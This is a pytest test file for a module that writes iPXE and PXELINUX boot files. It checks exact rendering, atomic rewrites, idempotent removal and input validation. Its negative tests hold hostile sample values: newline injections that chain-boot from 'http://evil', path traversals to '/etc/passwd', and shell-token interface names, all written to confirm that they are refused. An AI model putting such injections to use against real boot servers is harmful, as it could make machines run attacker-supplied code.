"""Boot files: exact content, atomic replacement, idempotent removal, hostile input refused."""
from __future__ import annotations

import os
import stat
from pathlib import Path

import pytest

from ims.common.errors import InvalidInput
from ims.einstein import boot as boot_mod
from ims.einstein.boot import BootFiles

IQN = "iqn.2017-10.org.moc.bmi:5img12"
MAC = "52:54:00:AB:cd:01"

EXPECTED_IPXE = """#!ipxe
      set keep-san 1
      isset ${net0/ip} || ifconf --configurator=dhcp net0
      sanboot --keep iscsi:10.0.0.5:tcp:3260:1:iqn.2017-10.org.moc.bmi:5img12
      boot
"""

EXPECTED_IPXE_INITIATOR = """#!ipxe
      set keep-san 1
      isset ${net2/ip} || ifconf --configurator=dhcp net2
      set initiator-iqn iqn.2017-10.org.moc.bmi.node:node-1
      sanboot --keep iscsi:10.0.0.5:tcp:3262:2:iqn.2017-10.org.moc.bmi:5img12
      boot
"""

# The default: no menu wait, the image is the DEFAULT (no trailing newline, as the original).
EXPECTED_PXELINUX = """DEFAULT centos7
  PROMPT 0
  MENU TITLE PXE Menu


LABEL centos7
     MENU LABEL centos7
     KERNEL ipxe.lkrn
     INITRD node-1.ipxe"""


@pytest.fixture()
def dirs(tmp_path: Path) -> tuple[Path, Path]:
    pxe = tmp_path / "tftpboot" / "pxelinux.cfg"
    pxe.mkdir(parents=True)
    return tmp_path / "tftpboot", pxe


def files_in(*paths: Path) -> list[str]:
    return sorted(str(p / f) for p in paths for f in os.listdir(p) if (p / f).is_file())


def test_write_exact_content_and_paths(dirs: tuple[Path, Path]) -> None:
    root, pxe = dirs
    boot = BootFiles(str(pxe), str(root), "10.0.0.5")
    written = boot.write("node-1", MAC, "centos7", IQN)
    ipxe_file = root / "node-1.ipxe"
    mac_file = root / "by-mac" / "52-54-00-ab-cd-01.ipxe"   # what UEFI iPXE's ${mac:hexhyp} names
    pxe_file = pxe / "01-52-54-00-ab-cd-01"   # lower case, dashes
    assert written == [str(ipxe_file), str(mac_file), str(pxe_file)]
    assert ipxe_file.read_text() == EXPECTED_IPXE
    assert mac_file.read_text() == EXPECTED_IPXE
    assert pxe_file.read_text() == EXPECTED_PXELINUX
    for path in written:
        assert stat.S_IMODE(os.stat(path).st_mode) == 0o644
    assert boot.exists("node-1", MAC)
    assert boot.read_ipxe("node-1") == EXPECTED_IPXE
    assert boot.paths("node-1", "52-54-00-ab-cd-01") == written
    # no temp files left behind
    assert files_in(root, root / "by-mac", pxe) == sorted(written)


# With [tftp] pxelinux_timeout = 30: the original mac.temp, byte for byte.
EXPECTED_PXELINUX_WAIT = """DEFAULT menu
  PROMPT 0
  MENU TITLE PXE Menu
  TIMEOUT 30
  ONTIMEOUT centos7


LABEL centos7
     MENU LABEL centos7
     KERNEL ipxe.lkrn
     INITRD node-1.ipxe"""


def test_pxelinux_timeout_renders_the_wait_only_when_asked(dirs: tuple[Path, Path]) -> None:
    root, pxe = dirs
    assert "TIMEOUT" not in BootFiles(str(pxe), str(root), "10.0.0.5").render_pxelinux("node-1", "centos7")
    boot = BootFiles(str(pxe), str(root), "10.0.0.5", pxelinux_timeout=30)
    assert boot.render_pxelinux("node-1", "centos7") == EXPECTED_PXELINUX_WAIT
    for bad in (-1, 36001):
        with pytest.raises(InvalidInput):
            BootFiles(str(pxe), str(root), "10.0.0.5", pxelinux_timeout=bad)


def test_configurable_interface_port_lun_and_initiator(dirs: tuple[Path, Path]) -> None:
    root, pxe = dirs
    boot = BootFiles(str(pxe), str(root), "10.0.0.5", iscsi_port=3262, lun=2, interface="net2")
    boot.write("node-1", MAC, "centos7", IQN, initiator_iqn="iqn.2017-10.org.moc.bmi.node:node-1")
    assert (root / "node-1.ipxe").read_text() == EXPECTED_IPXE_INITIATOR


def test_rewrite_replaces_atomically(dirs: tuple[Path, Path], monkeypatch: pytest.MonkeyPatch) -> None:
    root, pxe = dirs
    boot = BootFiles(str(pxe), str(root), "10.0.0.5")
    boot.write("node-1", MAC, "centos7", IQN)
    inode_before = os.stat(root / "node-1.ipxe").st_ino
    calls: list[tuple[str, str]] = []
    real_replace = os.replace

    def spy_replace(src: str, dst: str) -> None:
        # At rename time the new content is complete in the temp file in the same dir,
        # and the destination still holds the old, complete content.
        calls.append((src, dst))
        assert os.path.dirname(src) == os.path.dirname(dst)
        if dst.endswith(".ipxe"):
            assert Path(dst).read_text() == EXPECTED_IPXE
            assert "iqn.2017-10.org.moc.bmi:other" in Path(src).read_text()
        real_replace(src, dst)

    monkeypatch.setattr(boot_mod.os, "replace", spy_replace)
    boot.write("node-1", MAC, "centos7", "iqn.2017-10.org.moc.bmi:other")
    assert [os.path.basename(d) for _, d in calls] == ["node-1.ipxe", "52-54-00-ab-cd-01.ipxe", "01-52-54-00-ab-cd-01"]
    assert os.stat(root / "node-1.ipxe").st_ino != inode_before
    assert "iqn.2017-10.org.moc.bmi:other" in boot.read_ipxe("node-1")


def test_failed_write_leaves_old_file_and_no_temp(dirs: tuple[Path, Path], monkeypatch: pytest.MonkeyPatch) -> None:
    root, pxe = dirs
    boot = BootFiles(str(pxe), str(root), "10.0.0.5")
    boot.write("node-1", MAC, "centos7", IQN)

    def broken_fsync(fd: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(boot_mod.os, "fsync", broken_fsync)
    with pytest.raises(OSError):
        boot.write("node-1", MAC, "centos7", "iqn.2017-10.org.moc.bmi:other")
    assert boot.read_ipxe("node-1") == EXPECTED_IPXE
    assert files_in(root, root / "by-mac", pxe) == sorted(boot.paths("node-1", MAC))


def test_remove_is_idempotent(dirs: tuple[Path, Path]) -> None:
    root, pxe = dirs
    boot = BootFiles(str(pxe), str(root), "10.0.0.5")
    boot.write("node-1", MAC, "centos7", IQN)
    boot.write("node-2", "52:54:00:ab:cd:02", "centos7", IQN)
    assert sorted(boot.remove("node-1", MAC)) == sorted(boot.paths("node-1", MAC))
    assert not boot.exists("node-1", MAC)
    assert boot.remove("node-1", MAC) == []          # second time: nothing, no error
    assert boot.exists("node-2", "52:54:00:ab:cd:02")  # the other node is untouched
    with pytest.raises(FileNotFoundError):
        boot.read_ipxe("node-1")


@pytest.mark.parametrize("lost", ["node-1.ipxe", "by-mac/52-54-00-ab-cd-01.ipxe", "pxelinux.cfg/01-52-54-00-ab-cd-01"])
def test_exists_needs_every_file(dirs: tuple[Path, Path], lost: str) -> None:
    root, pxe = dirs
    boot = BootFiles(str(pxe), str(root), "10.0.0.5")
    boot.write("node-1", MAC, "centos7", IQN)
    os.unlink(root / lost)
    assert not boot.exists("node-1", MAC)
    # a rewrite brings back the lost file, e.g. the per-MAC copy a provision made before UEFI support lacks
    boot.write("node-1", MAC, "centos7", IQN)
    assert boot.exists("node-1", MAC)


def test_mac_copy_is_per_mac_and_cannot_collide_with_node_names(dirs: tuple[Path, Path]) -> None:
    """Two nodes get two per-MAC copies, each its own script; a node named like a MAC file stays apart."""
    root, pxe = dirs
    boot = BootFiles(str(pxe), str(root), "10.0.0.5")
    boot.write("node-1", MAC, "centos7", IQN)
    boot.write("52-54-00-ab-cd-02", "52:54:00:ab:cd:02", "centos7", "iqn.2017-10.org.moc.bmi:5img13")
    assert (root / "by-mac" / "52-54-00-ab-cd-01.ipxe").read_text() == EXPECTED_IPXE
    assert "5img13" in (root / "by-mac" / "52-54-00-ab-cd-02.ipxe").read_text()
    assert "5img13" in (root / "52-54-00-ab-cd-02.ipxe").read_text()
    boot.remove("node-1", MAC)
    assert sorted(os.listdir(root / "by-mac")) == ["52-54-00-ab-cd-02.ipxe"]


@pytest.mark.parametrize("node, mac, label, iqn, initiator", [
    ("../etc", MAC, "centos7", IQN, None),
    ("node-1/x", MAC, "centos7", IQN, None),
    ("node\n1", MAC, "centos7", IQN, None),
    ("", MAC, "centos7", IQN, None),
    ("node-1", "52:54:00:ab:cd", "centos7", IQN, None),
    ("node-1", "52:54:00:ab:cd:01\nKERNEL evil", "centos7", IQN, None),
    ("node-1", "../../../etc/passwd", "centos7", IQN, None),
    ("node-1", MAC, "centos7\nKERNEL http://evil/x", IQN, None),
    ("node-1", MAC, "cent os", IQN, None),
    ("node-1", MAC, "centos7", IQN + "\nchain http://evil/", None),
    ("node-1", MAC, "centos7", "iqn x", None),
    ("node-1", MAC, "centos7", IQN, "iqn.2017-10.org:a\nshell"),
])
def test_bad_input_rejected_and_nothing_written(dirs: tuple[Path, Path], node: str, mac: str, label: str,
                                                iqn: str, initiator: str | None) -> None:
    root, pxe = dirs
    boot = BootFiles(str(pxe), str(root), "10.0.0.5")
    with pytest.raises(InvalidInput):
        boot.write(node, mac, label, iqn, initiator_iqn=initiator)
    assert files_in(root, pxe) == []


@pytest.mark.parametrize("kwargs", [
    {"iscsi_ip": "10.0.0.5\nboot"}, {"iscsi_ip": "10.0.0.5", "lun": 0}, {"iscsi_ip": "10.0.0.5", "iscsi_port": 0},
    {"iscsi_ip": "10.0.0.5", "interface": "net0; shell"},
])
def test_bad_settings_rejected(tmp_path: Path, kwargs: dict[str, object]) -> None:
    with pytest.raises(InvalidInput):
        BootFiles(str(tmp_path), str(tmp_path), **kwargs)  # type: ignore[arg-type]


def test_templates_are_string_template_placeholders() -> None:
    text = Path(boot_mod.DEFAULT_TEMPLATES_DIR, "ipxe.temp").read_text()
    for name in ("${interface}", "${iscsi_ip}", "${iscsi_port}", "${lun}", "${target_name}"):
        assert name in text
    assert "net2" not in text and "3260" not in text


@pytest.mark.parametrize("field", ["node", "label", "iqn", "initiator"])
def test_trailing_newline_rejected(dirs: tuple[Path, Path], field: str) -> None:
    root, pxe = dirs
    boot = BootFiles(str(pxe), str(root), "10.0.0.5")
    args = {"node": "node-1", "label": "centos7", "iqn": IQN, "initiator": "iqn.2017-10.org.moc.bmi.node:n1"}
    args[field] += "\n"
    with pytest.raises(InvalidInput):
        boot.write(args["node"], MAC, args["label"], args["iqn"], initiator_iqn=args["initiator"])
    assert files_in(root, pxe) == []
